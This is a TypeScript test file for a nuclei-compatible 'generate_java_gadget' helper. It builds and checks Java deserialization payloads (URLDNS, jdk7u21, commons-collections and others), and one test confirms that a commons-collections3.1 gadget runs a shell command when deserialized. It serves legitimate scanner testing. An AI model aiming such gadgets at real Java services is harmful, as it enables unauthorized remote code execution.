import { execFileSync } from 'node:child_process';
import { existsSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { gunzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { DslEvaluationError, textToBytes } from '../index.js';
import { evaluate } from '../testing/evaluate.js';
import { hasJar, hasJava, JARS } from '../testing/java.js';
import { readJavaStream } from '../testing/java-stream.js';
import { scratchFolder } from '../testing/scratch-folder.js';
import { encodeGadget } from './gadget-encoding.js';
import { commonsCollections31Gadget, schemeAndHost, urlDnsGadget } from './java-gadget.js';
import { modifiedUtf8 } from './java-serialization.js';

const NUCLEI_GADGETS = [
  'dns',
  'jdk7u21',
  'jdk8u20',
  'commons-collections3.1',
  'commons-collections4.0',
  'groovy1',
];

/** A Java program that deserializes its standard input and describes what it read. */
const READER = `
import java.io.*;
import java.util.*;

public class Reader {
  public static void main(String[] args) throws Exception {
    Object read = new ObjectInputStream(new BufferedInputStream(System.in)).readObject();
    System.out.println(read.getClass().getName());
    for (Map.Entry<?, ?> entry : ((Map<?, ?>) read).entrySet()) {
      java.net.URL url = (java.net.URL) entry.getKey();
      // HashMap.readObject hashed the key (no hash was cached): URLStreamHandler.hashCode resolves the host
      java.lang.reflect.Field hash = java.net.URL.class.getDeclaredField("hashCode");
      hash.setAccessible(true);
      boolean rehashed = hash.getInt(url) == new java.net.URL(url.toString()).hashCode();
      String hashed = rehashed ? "hashed" : "not hashed";
      System.out.println(url.getProtocol() + "|" + url.getHost() + "|" + url.getPort() + "|" + entry.getValue() + "|" + hashed);
    }
  }
}
`;

/** Deserializes `payload` in a JVM that has commons-collections, its unsafe functors allowed. */
function deserializeWithCommonsCollections(payload: Buffer): string {
  const folder = scratchFolder('java');
  const source = join(folder, 'Read.java');
  writeFileSync(
    source,
    'public class Read { public static void main(String[] a) throws Exception {\n' +
      '  Object read = new java.io.ObjectInputStream(System.in).readObject();\n' +
      '  System.out.println(read.getClass().getName());\n' +
      '  Thread.sleep(300);\n' +
      '}}\n',
  );
  const unsafe = '-Dorg.apache.commons.collections.enableUnsafeSerialization=true';
  const args = [unsafe, '-cp', JARS.commonsCollections3, source];
  return execFileSync('java', args, { input: payload, timeout: 60_000 }).toString();
}

function readWithJava(payload: Buffer): string {
  const folder = scratchFolder('java');
  writeFileSync(join(folder, 'Reader.java'), READER);
  const args = ['--add-opens', 'java.base/java.net=ALL-UNNAMED', join(folder, 'Reader.java')];
  return execFileSync('java', args, { input: payload, timeout: 60_000 }).toString();
}

describe('generate_java_gadget', () => {
  it.skipIf(!hasJava)(
    'writes a dns (URLDNS) gadget that Java reads back as a HashMap keyed by the URL, hashing (resolving) it',
    () => {
      const url = 'http://127.0.0.1:8080/ping?x=1';
      const payload = Buffer.from(
        evaluate(`generate_java_gadget("dns", "${url}", "base64-raw")`) as string,
        'base64',
      );
      expect(readWithJava(payload).trim().split('\n')).toEqual([
        'java.util.HashMap',
        `http|127.0.0.1|-1|${url}|hashed`,
      ]);
    },
    90_000,
  );

  it.skipIf(!hasJava)(
    'writes strings beyond ASCII in modified UTF-8 that Java reads back',
    () => {
      const url = 'https://exämple.test/\u{1F600}';
      expect(
        readWithJava(urlDnsGadget(url) as Buffer)
          .trim()
          .split('\n')[1],
      ).toBe(`https|exämple.test|-1|${url}|hashed`);
    },
    90_000,
  );

  it.skipIf(!hasJar(JARS.commonsCollections3))(
    'writes a commons-collections3.1 gadget whose deserialization runs the command',
    async () => {
      const marker = join(scratchFolder('gadget'), 'ran');
      const encoded = evaluate(
        `generate_java_gadget("commons-collections3.1", "touch ${marker}", "base64-raw")`,
      );
      expect(existsSync(marker)).toBe(false);
      const read = deserializeWithCommonsCollections(Buffer.from(encoded as string, 'base64'));
      expect(read.trim()).toBe('java.util.HashSet');
      for (let waited = 0; !existsSync(marker) && waited < 5_000; waited += 100) {
        await new Promise((resolve) => setTimeout(resolve, 100));
      }
      expect(existsSync(marker)).toBe(true);
    },
    90_000,
  );

  it('writes the command of a commons-collections3.1 gadget whole, however long', () => {
    const command = `echo ${'x'.repeat(300)}`;
    const payload = commonsCollections31Gadget(command);
    const at = payload.indexOf(Buffer.from(command));
    expect(payload[at - 3]).toBe(0x74);
    expect(payload.readUInt16BE(at - 2)).toBe(command.length);
  });

  it('starts with the stream magic and the HashMap class descriptor', () => {
    const payload = urlDnsGadget('http://example.test') as Buffer;
    expect(payload.subarray(0, 4).toString('hex')).toBe('aced0005');
    expect(payload[4]).toBe(0x73);
    expect(payload.subarray(8, 25).toString()).toBe('java.util.HashMap');
  });

  it('encodes as nuclei does: base64 with + escaped by default, raw, hex, gzip, gzip-base64', () => {
    const payload = Buffer.from([0xfb, 0xef, 0x00]);
    expect(encodeGadget(payload, 'base64')).toBe('%2B%2B8A');
    expect(encodeGadget(payload, '')).toBe('%2B%2B8A');
    expect(encodeGadget(payload, 'base64-raw')).toBe('++8A');
    expect(encodeGadget(payload, 'hex')).toBe('fbef00');
    expect([...textToBytes(encodeGadget(payload, 'raw'))]).toEqual([0xfb, 0xef, 0x00]);
    expect([...gunzipSync(textToBytes(encodeGadget(payload, 'gzip')))]).toEqual([0xfb, 0xef, 0x00]);
    const gzipBase64 = encodeGadget(payload, 'gzip-base64').replaceAll('%2B', '+');
    expect([...gunzipSync(Buffer.from(gzipBase64, 'base64'))]).toEqual([0xfb, 0xef, 0x00]);
  });

  it('reads the scheme and host of a URL as Go does', () => {
    expect(schemeAndHost('HTTP://user@Host.test:8080/x')).toEqual({ scheme: 'http', host: 'Host.test' });
    expect(schemeAndHost('http://[::1]:80/')).toEqual({ scheme: 'http', host: '::1' });
    expect(schemeAndHost('example.test')).toEqual({ scheme: '', host: '' });
    expect(schemeAndHost('http://a\nb')).toBeUndefined();
  });

  it('gives empty text for a gadget nuclei does not know', () => {
    expect(evaluate('generate_java_gadget("nope", "http://x.test", "base64")')).toBe('');
    expect(evaluate('generate_java_gadget("toString", "id", "base64")')).toBe('');
  });

  it('builds every gadget nuclei names, each a whole stream the serialization grammar reads', () => {
    for (const gadget of NUCLEI_GADGETS) {
      const payload = Buffer.from(
        evaluate(`generate_java_gadget("${gadget}", "http://x.test/ id", "hex")`) as string,
        'hex',
      );
      expect(readJavaStream(payload), gadget).toHaveLength(1);
    }
  });

  it('refuses a command longer than the class constant of a TemplatesImpl gadget holds, naming the helper', () => {
    const long = 'x'.repeat(70_000);
    expect(() => evaluate(`generate_java_gadget("jdk7u21", "${long}", "hex")`)).toThrow(
      /^generate_java_gadget: .*70000 bytes long, more than 65535/,
    );
    expect(() => evaluate(`generate_java_gadget("jdk7u21", "${long}", "hex")`)).toThrow(DslEvaluationError);
  });

  it('writes a URL longer than 65535 bytes as a long string', () => {
    const url = `http://example.test/${'a'.repeat(70_000)}`;
    const payload = urlDnsGadget(url) as Buffer;
    const at = payload.length - 1 - url.length - 9;
    expect(payload[at]).toBe(0x7c);
    expect(payload.readBigInt64BE(at + 1)).toBe(BigInt(url.length));
  });

  it('encodes NUL and characters beyond the BMP in modified UTF-8', () => {
    expect(modifiedUtf8('a\u0000é')).toEqual([0x61, 0xc0, 0x80, 0xc3, 0xa9]);
    expect(modifiedUtf8('\u{1F600}')).toEqual([0xed, 0xa0, 0xbd, 0xed, 0xb8, 0x80]);
  });
});
